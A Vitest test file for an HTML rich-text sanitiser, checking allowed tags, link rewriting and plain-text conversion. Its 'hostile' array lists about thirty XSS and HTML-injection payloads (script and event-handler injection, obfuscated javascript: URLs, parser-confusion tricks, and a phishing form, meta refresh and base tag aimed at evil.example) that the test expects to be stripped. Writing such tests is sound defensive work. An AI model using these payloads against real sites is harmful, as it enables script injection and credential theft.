import { expect, test } from "vitest";
import { cleanRichText, plainTextOf, richTextOf } from "./rich-text.ts";

test("allowed formatting stays", () => {
  const text =
    "<h3>Rules</h3><p>Come <strong>early</strong>, <em>dressed</em><br />and <s>late</s></p><ul><li><p>One</p></li><li><p>Two</p></li></ul><blockquote><p>Word</p></blockquote><hr />";
  expect(cleanRichText(text)).toBe(text);
  expect(cleanRichText("<div>a</div><h1>b</h1><b>c</b> <i>d</i>")).toBe(
    "<p>a</p><h3>b</h3><strong>c</strong> <em>d</em>",
  );
});

test("an external link opens in a new tab and passes nothing on", () => {
  expect(cleanRichText('<a href="https://example.com/x?a=1&b=2" onclick="x()" style="x">here</a>')).toBe(
    '<a href="https://example.com/x?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">here</a>',
  );
  expect(cleanRichText('<a href="mailto:box@example.com">us</a>')).toContain("mailto:box@example.com");
});

const hostile = [
  "<script>alert(1)</script>",
  "<p><script>alert(1)</script></p>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><circle/></svg>",
  "<svg><script>alert(1)</script></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  "<p onmouseover=alert(1)>x</p>",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=//evil.example>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<base href=//evil.example>",
  "<form action=//evil.example><input name=password><button>go</button></form>",
  "<object data=x></object><embed src=x>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea><script>alert(1)</script></textarea>",
  "<xmp><script>alert(1)</script></xmp>",
  "<<script>alert(1)//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<p id=tickets name=x class=fixed>x</p>",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<p>\u0000<scr\u0000ipt>alert(1)</script></p>",
];

test.each(hostile)("nothing in %j runs, loads or styles", (text) => {
  const clean = cleanRichText(text);
  // Only the listed elements are left, without attributes except a link's own three.
  const tags = [...clean.matchAll(/<\/?([a-z0-9]+)((?:\s[^>]*)?)\/?>/gi)];
  expect(clean.replace(/<\/?[a-z0-9]+(?:\s[^>]*)?\/?>/gi, "")).not.toContain("<");
  for (const [, name, attributes] of tags) {
    expect("p br strong em s h3 h4 ul ol li blockquote pre code hr a".split(" ")).toContain(name);
    expect(
      attributes!.replace(/ (?:href="(?:https?:|mailto:|tel:)[^"]*"|rel="[^"]*"|target="_blank")/g, "").trim(),
    ).toMatch(/^\/?$/);
  }
  expect(cleanRichText(clean)).toBe(clean);
});

test("rich text converts to plain text, and plain paragraphs convert to rich text", () => {
  const html = "<h3>Rules</h3><p>Come &amp; dance<br />late</p><ul><li>One</li><li>Two</li></ul>";
  expect(plainTextOf(html)).toBe("Rules\n\nCome & dance\nlate\n\n- One\n- Two");
  expect(richTextOf("One <b>\nline\n\n\nTwo & three")).toBe("<p>One &lt;b&gt;<br />line</p><p>Two &amp; three</p>");
  expect(cleanRichText(richTextOf("a\n\nb"))).toBe("<p>a</p><p>b</p>");
  expect(plainTextOf(richTextOf('"a" < b\nc\n\nd'))).toBe('"a" < b\nc\n\nd');
});
